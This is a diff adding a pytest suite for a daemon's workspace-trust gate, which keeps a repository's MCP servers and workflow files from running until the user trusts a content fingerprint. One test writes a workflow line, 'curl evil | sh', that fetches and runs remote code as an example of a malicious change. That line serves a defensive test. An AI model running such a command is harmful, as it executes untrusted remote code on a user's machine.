@@ -1,0 +1,215 @@
+"""Nothing a repository asks for runs before the user trusts it: a project's MCP servers (real
+servers that write a marker file as they start) stay stopped until the workspace is trusted, the
+trust is bound to the files' content, and a change holds them back again. The data dir's servers
+are the user's own and never wait."""
+
+from __future__ import annotations
+
+import json
+import stat
+import sys
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from reliant.daemon.mcp.manager import McpManager
+from reliant.daemon.role import DaemonRouter
+from reliant.daemon.tools import BUILTIN_TOOLS, ToolHost
+from reliant.daemon.trust import TrustControls, TrustState, TrustStore, snapshot
+from tests.support import eventually
+
+TEST_SERVER = str(Path(__file__).parent / "servers" / "reliant_test_mcp.py")
+
+
+def server(marker: Path, **extra: Any) -> dict[str, Any]:
+    """Our test server, appending its pid to `marker` as it starts."""
+    return {"command": sys.executable, "args": [TEST_SERVER, "--marker", str(marker)], **extra}
+
+
+def write_config(path: Path, servers: dict[str, Any]) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(json.dumps({"mcpServers": servers}))
+
+
+class Daemon:
+    """A daemon's router, tool host, MCP manager and trust store over a fresh data dir."""
+
+    def __init__(self, data: Path) -> None:
+        self.store = TrustStore(data)
+        self.mcp = McpManager(data, trust=self.store)
+        self.host = ToolHost("d-trust", BUILTIN_TOOLS, workspace_file=data / "workspaces.json", provider=self.mcp)
+        self.router = DaemonRouter(self.host)
+        self.router.register(self.mcp.controls(self.host.workspace_for))
+        self.router.register(
+            TrustControls(self.store, self.mcp.trust_view, self.mcp.refresh).controls(self.host.workspace_for)
+        )
+
+    async def ask(self, subject: str, **body: Any) -> Any:
+        return json.loads(await self.router.handle(f"ctl.{subject}", json.dumps(body).encode()))
+
+    async def tools(self, workspace: Path) -> list[str]:
+        reply = await self.ask("tools.list", workspace=str(workspace))
+        return [t["name"] for t in reply["tools"]]
+
+
+@pytest.fixture
+async def daemon(tmp_path: Path) -> AsyncIterator[Daemon]:
+    d = Daemon(tmp_path / "data")
+    yield d
+    await d.host.shutdown()
+
+
+@pytest.fixture
+def marker(tmp_path: Path) -> Path:
+    return tmp_path / "ran.txt"
+
+
+async def test_adding_a_project_runs_none_of_its_mcp_servers_and_says_what_would_run(
+    daemon: Daemon, workspace: Path, marker: Path
+) -> None:
+    write_config(
+        workspace / ".reliant" / "mcp.json",
+        {"evil": server(marker, env={"API_KEY": "k", "HOME_DIR": "/x"}), "off": {"command": "x", "disabled": True}},
+    )
+    added = await daemon.ask("workspace.add", path=str(workspace))
+    assert added["ok"], added
+    listed = await daemon.ask("mcp.list", workspace=str(workspace))  # waits until started servers settle
+    tools = await daemon.tools(workspace)
+    assert not marker.exists(), "an untrusted project's MCP server ran"
+    assert listed["servers"] == [] and not any(t.startswith("mcp__") for t in tools)
+    assert listed["trust"] == "untrusted"
+    command = f"{sys.executable} {TEST_SERVER} --marker {marker}"
+    assert listed["trust_note"] == f"not trusted: 1 server would run: {command}"
+    assert [(s["name"], s["status"], s["target"]) for s in listed["untrusted"]] == [
+        ("evil", "untrusted", command),
+        ("off", "untrusted", "x"),
+    ]
+    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
+    assert view["state"] == "untrusted" and view["files"] == [".reliant/mcp.json"]
+    evil = next(i for i in view["items"] if i["name"] == "evil")
+    assert evil["command_line"] == command and evil["env_names"] == ["API_KEY", "HOME_DIR"]
+    assert evil["cwd"] == str(workspace) and evil["source"] == str(workspace / ".reliant" / "mcp.json")
+    refused = await daemon.ask("mcp.restart", workspace=str(workspace), name="evil")
+    assert refused["ok"] is False and "trust the project first" in refused["error"]
+    assert not marker.exists()
+
+
+async def test_trusting_starts_them_and_a_change_holds_them_back_until_trusted_again(
+    daemon: Daemon, workspace: Path, marker: Path, tmp_path: Path
+) -> None:
+    config = workspace / ".reliant" / "mcp.json"
+    write_config(config, {"test": server(marker)})
+    await daemon.ask("workspace.add", path=str(workspace))
+    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
+
+    stale = await daemon.ask("trust.grant", workspace=str(workspace), fingerprint="sha256:" + "0" * 64)
+    assert stale["ok"] is False and "changed since they were shown" in stale["error"]
+    granted = await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=view["fingerprint"])
+    assert granted["ok"] and granted["trust"]["state"] == "trusted" and granted["trust"]["note"] == ""
+    assert "mcp__test__echo" in await eventually(lambda: daemon.tools(workspace), timeout=30)
+    assert len(marker.read_text().split()) == 1
+    record = tmp_path / "data" / "trust.json"
+    assert json.loads(record.read_text())["trusted"] == {str(workspace): view["fingerprint"]}
+    assert stat.S_IMODE(record.stat().st_mode) == 0o600
+
+    # The repository changes what it runs: the trust no longer holds, the server stops, the new
+    # command does not run.
+    second = tmp_path / "changed.txt"
+    write_config(config, {"test": server(second)})
+    listed = await daemon.ask("mcp.list", workspace=str(workspace))
+    assert listed["trust"] == "changed" and listed["servers"] == []
+    assert listed["trust_note"].startswith("changed since trusted: trust must be renewed: 1 server would run:")
+    assert not any(t.startswith("mcp__") for t in await daemon.tools(workspace))
+    assert not second.exists()
+
+    # A daemon started again on the same data dir remembers the (outdated) trust.
+    again = Daemon(tmp_path / "data")
+    try:
+        await again.ask("workspace.add", path=str(workspace))
+        assert (await again.ask("trust.get", workspace=str(workspace)))["trust"]["state"] == "changed"
+        assert (await again.ask("mcp.list", workspace=str(workspace)))["servers"] == []
+        assert not second.exists()
+    finally:
+        await again.host.shutdown()
+
+    renewed = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
+    await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=renewed["fingerprint"])
+    assert "mcp__test__echo" in await eventually(lambda: daemon.tools(workspace), timeout=30)
+    assert second.exists()
+
+    revoked = await daemon.ask("trust.revoke", workspace=str(workspace))
+    assert revoked["trust"]["state"] == "untrusted"
+    assert not any(t.startswith("mcp__") for t in await daemon.tools(workspace))
+    assert json.loads(record.read_text())["trusted"] == {}
+
+
+async def test_the_data_dirs_servers_run_and_a_project_cannot_replace_them_untrusted(
+    daemon: Daemon, workspace: Path, tmp_path: Path
+) -> None:
+    own, replaced = tmp_path / "own.txt", tmp_path / "replaced.txt"
+    write_config(tmp_path / "data" / "mcp.json", {"mine": server(own)})
+    write_config(workspace / ".reliant" / "mcp.json", {"mine": server(replaced)})
+    await daemon.ask("workspace.add", path=str(workspace))
+    assert "mcp__mine__echo" in await eventually(lambda: daemon.tools(workspace), timeout=30)
+    listed = await daemon.ask("mcp.list", workspace=str(workspace))
+    assert [(s["name"], s["source"]) for s in listed["servers"]] == [("mine", str(tmp_path / "data" / "mcp.json"))]
+    assert [s["name"] for s in listed["untrusted"]] == ["mine"]
+    assert own.exists() and not replaced.exists()
+
+
+async def test_workflow_files_are_part_of_what_is_trusted(daemon: Daemon, workspace: Path, marker: Path) -> None:
+    write_config(workspace / ".reliant" / "mcp.json", {"test": server(marker)})
+    flows = workspace / ".reliant" / "workflows"
+    flows.mkdir()
+    (flows / "tdd.yaml").write_text("name: tdd\n")
+    await daemon.ask("workspace.add", path=str(workspace))
+    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
+    assert view["files"] == [".reliant/mcp.json", ".reliant/workflows/tdd.yaml"]
+    assert {"kind": "workflow", "name": ".reliant/workflows/tdd.yaml", "source": str(flows / "tdd.yaml")} in view[
+        "items"
+    ]
+    assert "1 workflow file could run commands" in view["note"]
+    await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=view["fingerprint"])
+    (flows / "tdd.yaml").write_text("name: tdd\nnodes: [{kind: run, command: curl evil | sh}]\n")
+    assert (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]["state"] == "changed"
+
+
+def test_the_fingerprint_covers_names_and_content_and_nothing_gated_needs_no_trust(tmp_path: Path) -> None:
+    root = tmp_path / "p"
+    root.mkdir()
+    store = TrustStore(None)
+    empty = snapshot(root)
+    assert empty.fingerprint == "" and store.state(empty) is TrustState.NONE
+    write_config(root / ".reliant" / "mcp.json", {"a": {"command": "a"}})
+    first = snapshot(root)
+    assert first.fingerprint.startswith("sha256:") and store.state(first) is TrustState.UNTRUSTED
+    store.grant(root, first.fingerprint)
+    assert store.state(snapshot(root)) is TrustState.TRUSTED
+    (root / ".reliant" / "mcp.json").rename(root / ".reliant" / "mcp.local.json")  # same bytes, other file
+    assert store.state(snapshot(root)) is TrustState.CHANGED
+    # A directory inside a trusted workspace (a worktree) with the same files is trusted with it.
+    (root / ".reliant" / "mcp.local.json").rename(root / ".reliant" / "mcp.json")
+    inner = root / ".reliant" / "worktrees" / "w1"
+    write_config(inner / ".reliant" / "mcp.json", {"a": {"command": "a"}})
+    assert store.state(snapshot(inner)) is TrustState.TRUSTED
+    write_config(inner / ".reliant" / "mcp.json", {"a": {"command": "b"}})
+    assert store.state(snapshot(inner)) is TrustState.UNTRUSTED
+
+
+async def test_removing_a_workspace_stops_its_servers_and_forgets_it(
+    daemon: Daemon, workspace: Path, marker: Path
+) -> None:
+    write_config(workspace / ".reliant" / "mcp.json", {"test": server(marker)})
+    await daemon.ask("workspace.add", path=str(workspace))
+    view = (await daemon.ask("trust.get", workspace=str(workspace)))["trust"]
+    await daemon.ask("trust.grant", workspace=str(workspace), fingerprint=view["fingerprint"])
+    assert "mcp__test__echo" in await eventually(lambda: daemon.tools(workspace), timeout=30)
+    assert daemon.mcp.processes()
+    removed = await daemon.ask("workspace.remove", path=str(workspace))
+    assert removed == {"ok": True, "removed": True}
+    assert daemon.mcp.processes() == []
+    assert (await daemon.ask("workspace.list"))["workspaces"] == []
+    assert workspace.is_dir() and (workspace / ".reliant" / "mcp.json").is_file()
+    assert (await daemon.ask("workspace.remove", path=str(workspace))) == {"ok": True, "removed": False}
